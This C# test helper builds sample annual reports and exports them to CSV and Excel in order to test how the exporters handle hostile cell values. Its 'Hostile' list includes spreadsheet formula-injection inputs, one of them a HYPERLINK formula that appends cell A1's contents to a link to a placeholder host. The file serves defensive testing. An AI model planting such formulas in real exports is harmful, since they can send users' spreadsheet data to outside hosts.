using System.Text;
using ClosedXML.Excel;
using IroService.Casework.Reports;
using IroService.Domain.Reports;

namespace IroService.Casework.Tests.Reports;

/// <summary>Reports, and what becomes of them when they leave the house.</summary>
static class AReport
{
    public static ReportDocument Of(params ReportTable[] tables) =>
        new("Annual report 2022-23", [new("Range", "2022-04-01 to 2023-03-31"), new("Made on", "2023-04-20")], [new("reviews", "Reviews", "First paragraph.\nSecond.", tables)]);

    public static ReportTable Table(string title, string about, string[] columns, params ReportRow[] rows) => new(title.ToLowerInvariant().Replace(' ', '-'), title, "How it counts.", about, columns, rows);

    public static ReportRow Row(string name, params ReportCell?[] cells) => new(name, cells);

    public static ReportCell Count(int count) => new(count, null, []);

    public static ReportCell Share(int count, int of) => new(count, of, []);

    /// <summary>Names as somebody types them who means harm, or who does not know better.</summary>
    public static IReadOnlyList<string> Hostile { get; } =
    [
        "=1+1", "=HYPERLINK(\"http://example.org/?\"&A1,\"Team\")", "+44 20", "-5", "@SUM(A1)", "'quoted", "\"Said\", she", "two\nlines", "👩‍👧 East", "<b>&amp;</b>", "12", "2023-04-01", "1e5", "TRUE",
        new('x', 200), "tab\there", "bell\a", "[a]:*?/\\b", "", "  ", "History",
    ];

    public static ReportTable HostileTable(string title) => new(title, title, title, title, [.. Hostile], [.. Hostile.Select(name => new ReportRow(name, [.. Hostile.Select((_, n) => n % 3 == 0 ? null : Share(n, 2 * n))]))]);

    public static string Csv(ReportDocument report)
    {
        using var stream = new MemoryStream();
        WriteReportCsv.To(stream, report);
        return new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(stream.ToArray());
    }

    public static byte[] Workbook(ReportDocument report)
    {
        using var stream = new MemoryStream();
        WriteReportWorkbook.To(stream, report);
        return stream.ToArray();
    }

    public static XLWorkbook Opened(ReportDocument report) => new(new MemoryStream(Workbook(report)));
}
